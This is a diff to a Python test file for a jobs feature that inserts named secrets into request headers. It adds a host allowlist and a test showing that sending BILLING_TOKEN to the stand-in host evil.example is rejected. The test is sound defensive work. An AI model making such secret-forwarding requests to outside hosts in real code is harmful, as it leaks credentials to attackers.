@@ -341,10 +341,12 @@ def test_it_shows_fields_for_a_typed_job_and_stores_no_default(snippet, admin_cl
 
 @claims("docs/jobs.md", 2)
 def test_it_inserts_a_secret_where_the_job_uses_it(snippet, web: Web, settings):
-    settings.JOB_SECRETS = {"BILLING_TOKEN": 'quoted"value'}
+    settings.JOB_SECRETS, settings.SECRET_HOSTS = {"BILLING_TOKEN": 'quoted"value'}, {"BILLING_TOKEN": [web.address]}
     web.pages["/rates"] = b"EUR 1.1"
     assert snippet.fetch_rates("/rates", "Bearer secret:BILLING_TOKEN") == "EUR 1.1"
     assert web.headers[-1]["authorization"] == 'Bearer quoted"value'
+    with pytest.raises(ValueError, match=r"The secret BILLING_TOKEN may not go to https://evil\.example"):
+        snippet.fetch_rates("https://evil.example/rates", "Bearer secret:BILLING_TOKEN")
 
 
 @claims("docs/jobs.md", 2)
